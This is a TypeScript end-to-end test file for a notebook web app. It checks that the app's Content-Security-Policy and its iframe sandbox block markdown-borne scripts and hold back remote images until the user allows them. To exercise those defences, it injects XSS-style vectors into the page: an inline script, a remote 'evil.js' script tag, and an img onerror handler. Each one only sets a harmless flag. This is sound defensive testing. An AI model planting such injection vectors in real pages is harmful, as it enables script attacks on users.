/**
 * The live app's and embed.html's Content-Security-Policy and the embed sandbox, end to end in
 * headless Chromium on the built app (scripts/app-csp.ts, render-markdown.ts, sparsebook-cell.js):
 * - a markdown cell with remote images fetches nothing until the user allows them, then loads them;
 * - scripts injected through markdown never run, and a script that got past the sanitizer (inserted
 *   straight into the DOM here) is blocked by the policy, inline or remote, in the app and in
 *   embed.html;
 * - `<sparsebook-cell>`'s iframe carries the sandbox attribute, has an opaque origin (it cannot
 *   reach the host page even from the same server) and still shows and sizes its cell.
 */
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { NotebookDoc } from '../../app/notebook/document';
import { encodeShareHash } from '../../app/notebook/share-link';
import { cells, newAppContext, openPage, repoRoot, screenshot, useApp } from './app-server';
import { XSS_PAYLOADS, xssMarkdown } from './xss-payloads';

/** A 1×1 transparent PNG. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);
const SANDBOX = 'allow-scripts allow-popups allow-popups-to-escape-sandbox allow-downloads';

const session = useApp();
let work: string;

beforeAll(async () => {
  work = mkdtempSync(path.join(os.tmpdir(), 'sparsebook-csp-'));
});

afterAll(async () => {
  if (work) rmSync(work, { recursive: true, force: true });
});

function markdownNotebook(title: string, source: string): NotebookDoc {
  return {
    format: 'sparsebook-notebook',
    version: 2,
    title,
    cells: [{ id: 'md', kind: 'markdown', params: { source }, inputs: {} }],
  };
}

/** A context whose requests to https://remote.example are answered here and recorded. */
async function contextWithRemote(): Promise<{ context: BrowserContext; remote: string[] }> {
  const context = await newAppContext(session.app, { acceptDownloads: true });
  const remote: string[] = [];
  await context.route('https://remote.example/**', (route) => {
    remote.push(new URL(route.request().url()).pathname);
    return route.fulfill({
      status: 200,
      contentType: route.request().url().endsWith('.js') ? 'text/javascript' : 'image/png',
      // The app is cross-origin isolated (COEP require-corp): a remote image must opt in.
      headers: { 'Cross-Origin-Resource-Policy': 'cross-origin', 'Access-Control-Allow-Origin': '*' },
      body: route.request().url().endsWith('.js') ? 'window.__xss = "remote-script"' : PIXEL,
    });
  });
  return { context, remote };
}

async function xssFlag(page: Page): Promise<unknown> {
  return page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss);
}

/** Messages for CSP violations this test provokes on purpose (anything else is a failure). */
function unexpected(errors: string[]): string[] {
  return errors.filter(
    (e) =>
      !/Executing inline (script|event handler) violates|Loading the script 'https:\/\/remote\.example\/evil\.js' violates|Loading the image '[^']*\/x' violates/.test(
        e,
      ),
  );
}

/**
 * Past the sanitizer: put an inline script, a remote script and an inline handler straight into
 * the page, and return the CSP violations they raised (none of them may run).
 */
async function injectPastSanitizer(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
    const inline = document.createElement('script');
    inline.textContent = 'window.__xss = "inline-script"';
    document.body.append(inline);
    const remote = document.createElement('script');
    remote.src = 'https://remote.example/evil.js';
    document.body.append(remote);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="data:," onerror="window.__xss = \'handler\'">';
    document.body.append(holder);
    await new Promise((r) => setTimeout(r, 500));
    return seen;
  });
}

describe('content security policy', () => {
  it('fetches a markdown cell’s remote images only once the user allows them', async () => {
    const { context, remote } = await contextWithRemote();
    try {
      const doc = markdownNotebook(
        'Remote images',
        [
          '# Figures',
          '![pixel](https://remote.example/pixel.png)',
          '<img src="https://remote.example/raw.png" alt="raw">',
        ].join('\n\n'),
      );
      const { page, errors } = await openPage(context, `${session.app.baseUrl}${encodeShareHash(doc)}`);
      const blocked = page.getByTestId('remote-images-blocked');
      await expect
        .poll(() => blocked.textContent(), { timeout: 30_000 })
        .toMatch(/2 remote images not loaded/);
      expect(await blocked.textContent()).toMatch(/remote\.example/);
      const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
      expect(csp).toMatch(/script-src 'self' 'sha256-/);
      await page.waitForTimeout(1000);
      expect(remote).toEqual([]);
      await screenshot(page, 'csp-remote-blocked');

      await page.getByRole('button', { name: 'Load remote images in this notebook' }).click();
      await expect.poll(() => [...remote].sort()).toEqual(['/pixel.png', '/raw.png']);
      const pixel = cells(page).nth(0).locator('img[alt="pixel"]');
      await expect.poll(() => pixel.evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(1);
      expect(await blocked.count()).toBe(0);

      // The permission is for this notebook in this tab only: a reload blocks them again.
      await page.reload();
      await expect.poll(() => blocked.count(), { timeout: 30_000 }).toBe(1);
      expect(await cells(page).nth(0).locator('img[alt="pixel"]').getAttribute('src')).toBeNull();
      expect(unexpected(errors)).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('never runs a script injected through markdown; the policy blocks one that got past it', async () => {
    const { context, remote } = await contextWithRemote();
    try {
      const source = `${xssMarkdown()}\n\n<script src="https://remote.example/evil.js"></script>`;
      const doc = markdownNotebook(`Payloads ${XSS_PAYLOADS[0]}`, source);
      const { page, errors } = await openPage(context, `${session.app.baseUrl}${encodeShareHash(doc)}`);
      const md = cells(page).nth(0).getByTestId('markdown-output');
      await expect.poll(() => md.textContent(), { timeout: 30_000 }).toMatch(/Payloads/);
      expect(await md.locator('script, [onerror], [onload], iframe').count()).toBe(0);
      expect(await xssFlag(page)).toBeUndefined();
      // Chromium reports (and blocks) the payloads' inline handlers while the sanitizer parses
      // them in its inert document; nothing else is refused, and nothing ran.
      expect(errors.filter((e) => !/Executing inline event handler violates/.test(e))).toEqual([]);

      const violations = await injectPastSanitizer(page);
      expect(await xssFlag(page)).toBeUndefined();
      expect(violations).toContain('script-src-elem inline');
      expect(violations).toContain('script-src-elem https://remote.example/evil.js');
      expect(violations).toContain('script-src-attr inline');
      expect(remote).toEqual([]);
      expect(unexpected(errors)).toEqual([]);

      // embed.html has the same policy.
      const embed = `${session.app.baseUrl}embed.html${encodeShareHash(doc)}&cell=md`;
      const { page: embedded } = await openPage(context, embed);
      await expect
        .poll(() => cells(embedded).nth(0).getByTestId('markdown-output').textContent(), { timeout: 30_000 })
        .toMatch(/Payloads/);
      expect(
        await embedded.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'),
      ).toMatch(/default-src 'none'; script-src 'self' 'sha256-/);
      const embedViolations = await injectPastSanitizer(embedded);
      expect(await xssFlag(embedded)).toBeUndefined();
      expect(embedViolations).toContain('script-src-elem inline');
      expect(remote).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('sandboxes <sparsebook-cell>’s iframe, which still shows and sizes its cell', async () => {
    const { context } = await contextWithRemote();
    const site = mkdtempSync(path.join(work, 'host-'));
    let server: Server | undefined;
    try {
      // A report of one markdown cell, exported by the session.app.
      const doc = markdownNotebook('Embedded', `# Embedded note\n\n${XSS_PAYLOADS.slice(0, 4).join('\n\n')}`);
      const { page } = await openPage(context, `${session.app.baseUrl}${encodeShareHash(doc)}`);
      await expect
        .poll(() => cells(page).nth(0).getByTestId('markdown-output').textContent(), { timeout: 30_000 })
        .toMatch(/Embedded note/);
      const download = page.waitForEvent('download');
      await page.getByRole('button', { name: 'Export report' }).click();
      await (await download).saveAs(path.join(site, 'report.html'));
      await page.close();

      copyFileSync(path.join(repoRoot, 'public/sparsebook-cell.js'), path.join(site, 'sparsebook-cell.js'));
      writeFileSync(
        path.join(site, 'host.html'),
        `<!doctype html><html><head><meta charset="utf-8"><title>Host page</title>
<script type="module" src="sparsebook-cell.js"></script></head>
<body><h1>A course page</h1><div style="width:700px">
<sparsebook-cell id="element" src="report.html" cell="md" theme="dark"></sparsebook-cell></div></body></html>`,
      );
      // Host page and report on the same server: only the sandbox keeps the frame from the host.
      server = createServer((req, res) => {
        const name = path.basename(new URL(req.url ?? '/', 'http://x').pathname) || 'host.html';
        try {
          const body = readFileSync(path.join(site, name));
          res.setHeader('Content-Type', name.endsWith('.js') ? 'text/javascript' : 'text/html');
          res.end(body);
        } catch {
          res.statusCode = 404;
          res.end();
        }
      });
      await new Promise<void>((r) => server!.listen(0, '127.0.0.1', r));
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/host.html`;
      const { page: host, errors } = await openPage(context, url);
      const iframe = host.locator('#element').locator('iframe');
      await expect.poll(() => iframe.count(), { timeout: 30_000 }).toBe(1);
      expect(await iframe.getAttribute('sandbox')).toBe(SANDBOX);
      const frame = (await (await iframe.elementHandle())!.contentFrame())!;
      await expect
        .poll(
          () =>
            frame
              .locator('[data-testid="markdown-output"]')
              .textContent()
              .catch(() => ''),
          {
            timeout: 60_000,
          },
        )
        .toMatch(/Embedded note/);
      expect(await frame.evaluate(() => document.documentElement.dataset.theme)).toBe('dark');
      // An opaque origin: no reaching into the host page, its storage or cookies.
      expect(await frame.evaluate(() => origin)).toBe('null');
      expect(
        await frame.evaluate(() => {
          try {
            return parent.document.title;
          } catch {
            return 'blocked';
          }
        }),
      ).toBe('blocked');
      // The frame still reports its height (postMessage), and the element takes it.
      await expect
        .poll(async () => Math.round((await host.locator('#element').boundingBox())!.height), {
          timeout: 30_000,
        })
        .not.toBe(360);
      expect(await frame.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
      expect(await xssFlag(host)).toBeUndefined();
      await screenshot(host, 'csp-sandboxed-embed');
      expect(unexpected(errors)).toEqual([]);
    } finally {
      server?.close();
      await context.close();
    }
  });
});
